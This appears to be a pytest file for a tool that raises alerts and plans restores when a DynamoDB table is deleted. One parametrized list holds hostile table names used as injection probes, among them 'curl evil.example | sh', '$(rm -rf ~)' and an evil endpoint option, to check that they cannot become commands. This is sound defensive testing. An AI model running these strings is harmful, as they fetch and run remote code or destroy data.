"""table_deleted: the alert names the loss, the culprit and the way back."""

from datetime import timedelta

import boto3
import pytest
from botocore.exceptions import ClientError, EndpointConnectionError
from freezegun import freeze_time

from chalicelib.aws import Aws
from chalicelib.errors import MayPass
from chalicelib.looking import Unseen
from chalicelib.matching import EventPattern
from chalicelib.remediation import Outcome, Plan, Severity
from chalicelib.remediations.table_deleted import GRANTS, PATTERN, REMEDIATION, decide, look, table_of
from chalicelib.remediations.table_deleted.backups import MOST_KEPT, Backup, Backups
from chalicelib.runtime.notify import message_of
from tests.chalicelib.bash import words_of
from tests.chalicelib.remediations.cloudtrail_records import (
    ACCOUNT,
    ADDRESS,
    NOW,
    at,
    delete_table,
    facts_of,
    only,
    settings,
    typed,
)
from tests.moto_alone import moto_alone

BACKUP_ARN = f"arn:aws:dynamodb:eu-central-1:{ACCOUNT}:table/orders/backup/"


def backup(
    name="nightly", *, age_hours=5, kind="USER", status="AVAILABLE", size=4_800_000, table_id=""
) -> Backup:
    return Backup(
        arn=f"{BACKUP_ARN}{name}",
        name=name,
        kind=kind,
        status=status,
        created=NOW - timedelta(hours=age_hours),
        size_bytes=size,
        table_id=table_id,
    )


def having(*backups: Backup) -> Backups:
    return Backups(newest=tuple(sorted(backups, key=lambda one: one.created, reverse=True)))


def decided(raw=None, facts: Backups | None = None) -> Plan:
    return decide(typed(raw or delete_table()), facts or Backups(), NOW, settings())


def with_table_id(table_id: str):
    return delete_table(responseElements={"tableDescription": {"tableId": table_id}})


def test_a_deletion_with_a_backup_names_the_newest_and_the_command():
    plan = decided(
        facts=having(backup("old", age_hours=50), backup("nightly"), backup("left", kind="SYSTEM"))
    )

    alert = only(plan)
    assert alert.severity is Severity.HIGH
    assert alert.title == "DynamoDB table orders was deleted, a backup is ready"
    assert plan.calls[0].command == (
        "aws dynamodb restore-table-from-backup --target-table-name orders "
        f"--backup-arn {BACKUP_ARN}nightly --region eu-central-1"
    )
    assert [fact for label, fact in alert.facts if label == "Backup"] == [
        "nightly, on demand, AVAILABLE, 5 h old (2026-03-01 22:01:00 UTC), 4.6 MB",
        "left, point-in-time recovery, AVAILABLE, 5 h old (2026-03-01 22:01:00 UTC), 4.6 MB",
        "old, on demand, AVAILABLE, 2 d 2 h old (2026-02-28 01:01:00 UTC), 4.6 MB",
    ]


def test_a_deletion_says_who_from_where_and_what_was_lost():
    raw = delete_table(
        responseElements={"tableDescription": {"itemCount": 42, "tableSizeBytes": 2048, "tableId": "t"}}
    )

    facts = facts_of(only(decided(raw)))

    assert facts["Who"] == f"arn:aws:iam::{ACCOUNT}:user/alice"
    assert facts["From"] == ADDRESS
    assert facts["When"] == "2026-03-02 03:00:00 UTC"
    assert facts["Account"] == ACCOUNT
    assert facts["Region"] == "eu-central-1"
    assert facts["Succeeded"] == "yes"
    assert facts["It held"] == "about 42 items, 2.0 KB"


def test_the_plan_restores_the_newest_backup_and_knows_the_way_back():
    (call,) = decided(facts=having(backup("old", age_hours=50), backup("nightly"))).calls

    assert (call.service, call.operation) == ("dynamodb", "restore_table_from_backup")
    assert call.parameters == {"TargetTableName": "orders", "BackupArn": f"{BACKUP_ARN}nightly"}
    assert (call.account, call.region) == (ACCOUNT, "eu-central-1")
    assert call.undo
    assert (call.undo.operation, call.undo.parameters) == ("delete_table", {"TableName": "orders"})


def test_a_table_that_is_still_being_deleted_is_not_taken_for_a_restored_one():
    (call,) = decided(facts=having(backup())).calls

    assert call.already == ("TableAlreadyExistsException",)


LOUDNESS = [
    pytest.param(delete_table(), having(backup()), Severity.HIGH, 1, id="a backup is ready"),
    pytest.param(delete_table(), Backups(), Severity.CRITICAL, 0, id="no backup"),
    pytest.param(
        delete_table(), having(backup(status="CREATING")), Severity.CRITICAL, 0, id="only one being written"
    ),
    pytest.param(
        delete_table(),
        having(backup("old", age_hours=9), backup("left", age_hours=0, status="CREATING")),
        Severity.HIGH,
        0,
        id="a newer one is being written: no restore that takes its name",
    ),
    pytest.param(
        delete_table(),
        Backups(could_not_read=Unseen(why="denied")),
        Severity.CRITICAL,
        0,
        id="could not be read: nobody knows",
    ),
    pytest.param(delete_table(None), Backups(), Severity.CRITICAL, 0, id="table not recorded: nobody knows"),
    pytest.param(
        with_table_id("new"), having(backup(table_id="new")), Severity.HIGH, 1, id="of this very table"
    ),
    pytest.param(
        with_table_id("new"),
        having(backup(table_id="old")),
        Severity.CRITICAL,
        0,
        id="of an earlier table only",
    ),
    pytest.param(delete_table(errorCode="AccessDenied"), Backups(), Severity.MEDIUM, 0, id="refused"),
    pytest.param(
        delete_table(
            errorCode="ValidationException",
            errorMessage="Resource cannot be deleted as it is currently protected against deletion. "
            "Disable deletion protection first.",
        ),
        Backups(),
        Severity.MEDIUM,
        0,
        id="deletion protection",
    ),
    pytest.param(
        delete_table(errorCode="ResourceNotFoundException"), Backups(), Severity.LOW, 0, id="gone already"
    ),
    pytest.param(delete_table(errorCode="ThrottlingException"), Backups(), Severity.LOW, 0, id="throttled"),
]


@pytest.mark.parametrize(("raw", "facts", "severity", "calls"), LOUDNESS)
def test_severity_and_deed_follow_from_outcome_and_backups(raw, facts, severity, calls):
    plan = decided(raw, facts)

    assert only(plan).severity is severity
    assert len(plan.calls) == calls


def test_of_two_tables_of_one_name_the_deleted_ones_own_backup_is_restored():
    facts = having(
        backup("others", age_hours=1, table_id="earlier"), backup("own", age_hours=9, table_id="this")
    )

    plan = decided(with_table_id("this"), facts)

    assert plan.calls[0].parameters["BackupArn"].endswith("/own")
    assert any(fact.endswith("of an earlier table of this name") for _, fact in only(plan).facts)


def test_a_refused_attempt_is_told_as_one():
    message = (
        f"User: arn:aws:iam::{ACCOUNT}:user/alice is not authorized to perform: dynamodb:DeleteTable on "
        f"resource: arn:aws:dynamodb:eu-central-1:{ACCOUNT}:table/orders because no policy allows it"
    )

    alert = only(decided(delete_table(None, errorCode="AccessDenied", errorMessage=message)))

    assert alert.title == "An attempt to delete DynamoDB table orders: AWS refused"
    assert facts_of(alert)["Succeeded"] == f"no (AccessDenied: {message})"


def test_a_deletion_by_cloudformation_says_so():
    identity = {"type": "AssumedRole", "arn": "arn:aws:sts::1:assumed-role/deploy/ci"}
    raw = delete_table(userIdentity={**identity, "invokedBy": "cloudformation.amazonaws.com"})

    facts = facts_of(only(decided(raw)))

    assert facts["By way of"] == "CloudFormation (cloudformation.amazonaws.com)"


def test_an_alert_that_could_not_read_says_why_and_how_to_look():
    facts = facts_of(only(decided(facts=Backups(could_not_read=Unseen(why="ListBackups: not authorized")))))

    assert facts["Backups"] == "could not be read: ListBackups: not authorized"
    assert facts["Look again with"] == (
        "aws dynamodb list-backups --table-name orders --backup-type ALL --region eu-central-1"
    )


HOSTILE = [
    pytest.param("x; curl evil.example | sh", id="semicolon and pipe"),
    pytest.param("$(rm -rf ~)", id="command substitution"),
    pytest.param("`id`", id="backticks"),
    pytest.param("a'; id; '", id="single quotes"),
    pytest.param('a" && id "', id="double quotes"),
    pytest.param("--endpoint-url=https://evil.example", id="looks like an option"),
    pytest.param("a\nRestore with: id\n", id="line breaks"),
]


@pytest.mark.parametrize("name", HOSTILE)
@pytest.mark.parametrize("facts", [having(backup()), Backups()], ids=["to restore", "to look again"])
def test_a_hostile_table_name_can_not_become_a_command(name, facts):
    plan = decided(delete_table(name), facts)
    alert = only(plan)

    command = plan.calls[0].command if plan.calls else facts_of(alert)["Look again with"]
    words = words_of(command)
    assert words[:2] == ["aws", "dynamodb"]
    assert words[4] == name or words[3].endswith(f"-name={name}")
    assert not words[4].startswith("--endpoint-url")
    lines = message_of(alert, "f", Outcome.OBSERVED, plan.calls).splitlines()
    assert not [line for line in lines if line.startswith("Restore with: id")]


NAMES = [
    pytest.param(delete_table("orders"), "orders", id="a name"),
    pytest.param(
        delete_table(f"arn:aws:dynamodb:eu-central-1:{ACCOUNT}:table/orders"), "orders", id="an ARN"
    ),
    pytest.param(delete_table("arn:aws:dynamodb:eu-central-1:broken"), "", id="an ARN of no table"),
    pytest.param(delete_table(None), "", id="no parameters"),
    pytest.param(delete_table(requestParameters={"tableName": ["a"]}), "", id="not a text"),
]


@pytest.mark.parametrize(("raw", "name"), NAMES)
def test_the_tables_name_is_read_in_every_shape(raw, name):
    assert table_of(typed(raw)) == name


@pytest.fixture
def dynamodb(monkeypatch):
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "testing")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "testing")
    monkeypatch.setenv("AWS_DEFAULT_REGION", "eu-west-1")
    with moto_alone():
        client = boto3.client("dynamodb", "eu-central-1")
        client.create_table(
            TableName="orders",
            KeySchema=[{"AttributeName": "id", "KeyType": "HASH"}],
            AttributeDefinitions=[{"AttributeName": "id", "AttributeType": "S"}],
            BillingMode="PAY_PER_REQUEST",
        )
        yield client


def looked(raw=None) -> Backups:
    return look(Aws(boto3.Session(region_name="eu-west-1")), typed(raw or delete_table()), settings())


def test_backups_are_read_in_the_tables_region_newest_first_and_once(dynamodb):
    with freeze_time(NOW) as clock:  # else both may be of one millisecond, which has no order
        dynamodb.create_backup(TableName="orders", BackupName="first")
        clock.tick()
        dynamodb.create_backup(TableName="orders", BackupName="second")
    dynamodb.delete_table(TableName="orders")

    facts = looked()

    assert [one.name for one in facts.newest] == ["second", "first"]
    assert facts.newest[0].available
    assert facts.left_out == 0


def test_a_table_without_backups_has_none(dynamodb):
    assert looked() == Backups()


def test_nobody_looks_for_the_backups_of_a_table_that_is_still_there(dynamodb):
    dynamodb.create_backup(TableName="orders", BackupName="first")

    assert looked(delete_table(errorCode="AccessDenied")) == Backups()


@pytest.mark.slow
def test_a_long_row_of_backups_is_cut_but_counted(dynamodb):
    for number in range(MOST_KEPT + 3):
        dynamodb.create_backup(TableName="orders", BackupName=f"backup-{number}")

    facts = looked()

    assert len(facts.newest) == MOST_KEPT
    assert facts.left_out == 3


class Unreachable:
    """An AWS whose every client fails as told."""

    def __init__(self, error: Exception) -> None:
        self.error = error

    def client(self, service: str, region: str = "") -> "Unreachable":
        return self

    def get_paginator(self, operation: str) -> "Unreachable":
        return self

    def paginate(self, **parameters: str) -> None:
        raise self.error


REFUSED = ClientError(
    {"Error": {"Code": "AccessDeniedException", "Message": "not authorized"}}, "ListBackups"
)
PASSING = [
    pytest.param(
        ClientError({"Error": {"Code": "ThrottlingException", "Message": "Rate exceeded"}}, "ListBackups"),
        id="throttled",
    ),
    pytest.param(EndpointConnectionError(endpoint_url="https://dynamodb"), id="out of reach"),
]


def test_a_look_that_is_denied_keeps_the_reason_and_the_alert():
    facts = look(Unreachable(REFUSED), typed(delete_table()), settings())

    assert facts.could_not_read == Unseen(why="ListBackups: not authorized", denied=True)


@pytest.mark.parametrize("error", PASSING)
def test_a_look_that_may_yet_succeed_is_tried_again(error):
    with pytest.raises(MayPass):
        look(Unreachable(error), typed(delete_table()), settings())


MATCHES = [
    pytest.param(delete_table(), id="done"),
    pytest.param(delete_table(errorCode="AccessDenied"), id="refused"),
]
MATCHES_NOT = [
    pytest.param(delete_table(eventSource="glue.amazonaws.com"), id="Glue's DeleteTable"),
    pytest.param({**delete_table(), "source": "aws.glue"}, id="from Glue"),
    pytest.param(delete_table(eventName="DeleteItem"), id="another call"),
]


@pytest.mark.parametrize("event", MATCHES)
def test_the_rule_lets_deletions_and_attempts_through(event):
    assert EventPattern(PATTERN).matches(event)


@pytest.mark.parametrize("event", MATCHES_NOT)
def test_the_rule_holds_everything_else_back(event):
    assert not EventPattern(PATTERN).matches(event)


def test_a_stack_that_only_observes_may_only_read():
    reading = [grant.action for grant in GRANTS if not grant.acting]

    assert reading == ["dynamodb:ListBackups"]
    assert REMEDIATION.acts


def test_ages_are_told_from_the_moment_of_telling():
    facts = having(
        Backup(
            arn="a",
            name="n",
            kind="USER",
            status="AVAILABLE",
            created=at("2026-03-02T03:00:30"),
            size_bytes=0,
        )
    )

    assert "30 s old" in facts_of(only(decided(facts=facts)))["Backup"]
